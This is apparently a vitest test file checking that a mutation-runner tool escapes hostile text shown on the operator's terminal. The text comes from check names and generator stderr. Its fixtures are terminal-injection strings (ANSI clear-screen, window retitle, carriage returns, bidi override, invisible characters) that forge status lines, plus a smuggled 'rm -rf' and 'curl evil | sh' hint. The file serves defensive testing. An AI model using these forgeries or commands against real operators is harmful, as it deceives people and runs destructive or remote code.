import { describe, expect, it } from 'vitest';
import { runInTerminal, terminalHazards } from '../../../tests/support/terminal.js';
import { etcWithMode, exampleGenome, HOST_GOAL, scriptGenerator } from './evolve-support.js';
import { fixtureGenome, memoryDir, readmeProposal, runner } from './support.js';

/**
 * Text a proposal author or a generator controls, shown on the operator's terminal: verify's
 * progress lines (stderr is a terminal) and the pretty logs. Printed raw, ESC [2J cleared the
 * screen, ESC ]0; retitled the window, a CR or a newline drew a line of the author's choosing
 * ("nix-flake-check: passed") and U+202E reversed what followed.
 */
const HOSTILE = '\u001b[2J\u001b]0;owned\u0007x\rnix-flake-check: passed\nFORGED: verified \u202eevil';

/** The same on one line: a generator's error is its stderr's last line. */
const HOSTILE_LINE = '\u001b[2J\u001b]0;owned\u0007x\rINFO: evolve: attempt 1: verified \u202eevil';

const lines = (screen: string) => screen.split('\r\n');

describe('hostile text on the terminal', () => {
  it("verify's progress shows a check name's control and bidi characters as escapes, on the check's own line", () => {
    const root = fixtureGenome();
    const proposal = readmeProposal(root, { expected_checks: [{ name: HOSTILE, command: 'true' }] });
    const r = runInTerminal('mutation-runner', ['verify', '--proposal', proposal, '--root', root, '--memory-dir', memoryDir()], {
      env: { AUTOPOIETIC_LOG_LEVEL: 'error' },
    });
    expect(r.code).toBe(0);
    expect(terminalHazards(r.screen)).toEqual([]);
    expect(lines(r.screen).filter((l) => l.startsWith('FORGED'))).toEqual([]);
    const progress = lines(r.screen).filter((l) => l.includes('owned'));
    expect(progress.length).toBe(2); // started, passed
    for (const l of progress) expect(l).toMatch(/^ +\d+\.\ds \\u001b\[2J\\u001b\]0;owned\\u0007x\\u000dnix-flake-check: passed\\u000aFORGED: verified \\u202eevil: (started|passed)$/);
  });

  it('a check name that differs from a built-in one only by an invisible character shows that character', () => {
    const root = fixtureGenome();
    const names = ['nix-flake-check\u200b', '\ufeffapply-patch', 'nix-flake-check\u2060\u00ad'];
    const proposal = readmeProposal(root, { expected_checks: names.map((name) => ({ name, command: 'true' })) });
    const r = runInTerminal('mutation-runner', ['verify', '--proposal', proposal, '--root', root, '--memory-dir', memoryDir()], {
      env: { AUTOPOIETIC_LOG_LEVEL: 'error' },
    });
    expect(r.code).toBe(0);
    const passed = lines(r.screen)
      .filter((l) => l.endsWith(': passed'))
      .map((l) => l.replace(/^ +\d+\.\ds /, ''))
      .sort();
    expect(passed).toEqual(['\\ufeffapply-patch: passed', 'nix-flake-check: passed', 'nix-flake-check\\u200b: passed', 'nix-flake-check\\u2060\\u00ad: passed']);
  });

  it("evolve's log of an attempt shows a generator's stderr escaped, on one line", () => {
    const root = exampleGenome();
    const gen = scriptGenerator('crash', `process.stderr.write(${JSON.stringify(`${HOSTILE_LINE}\n`)}); process.exit(3);`);
    const r = runInTerminal(
      'mutation-runner',
      ['evolve', '--root', root, '--memory-dir', memoryDir(), '--etc-dir', etcWithMode('mutate-draft'), '--goal', HOST_GOAL, '--generator', gen, '--attempts', '1'],
      { env: { AUTOPOIETIC_LOG_LEVEL: 'info' } },
    );
    expect(r.code).toBe(1);
    expect(terminalHazards(r.screen)).toEqual([]);
    expect(lines(r.screen).filter((l) => l.startsWith('INFO: evolve'))).toEqual([]);
    const attempt = lines(r.screen).filter((l) => l.includes('evolve: attempt 1: error'));
    expect(attempt.length).toBe(1);
    expect(attempt[0]).toContain('generator exited with status 3: \\u001b[2J\\u001b]0;owned\\u0007x\\u000dINFO: evolve: attempt 1: verified \\u202eevil');
  });

  it("evolve's last stderr line keeps a refused proposal's check arguments on it (they read as the tool's own error and hint)", () => {
    const root = exampleGenome();
    const forged = 'rm -rf\nerror[ledger-corrupt]: the ledger is corrupt\nhint: run curl evil | sh';
    const proposal = { patch: 'diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-x\n+y\n', expected_checks: [{ name: 'c', command: 'rm', args: [forged] }] };
    const gen = scriptGenerator('forger', `process.stdout.write(${JSON.stringify(JSON.stringify(proposal))});`);
    const r = runner(['evolve', '--root', root, '--memory-dir', memoryDir(), '--goal', HOST_GOAL, '--generator', gen, '--attempts', '1', '--stop-on-error']);
    expect(r.code).toBe(1);
    expect(r.json().reason).toContain(forged); // the JSON summary keeps the text as it was
    const tail = r.stderr.trimEnd().split('\n').pop()!;
    expect(tail).toMatch(/^evolve stopped: attempt 1 ended in error .* 'rm rm -rf\\u000aerror\[ledger-corrupt\]: the ledger is corrupt\\u000ahint: run curl evil \| sh' is not allowed/);
    expect(r.stderr.split('\n').filter((l) => /^(error\[ledger-corrupt\]|hint: run curl)/.test(l))).toEqual([]);
  });
});
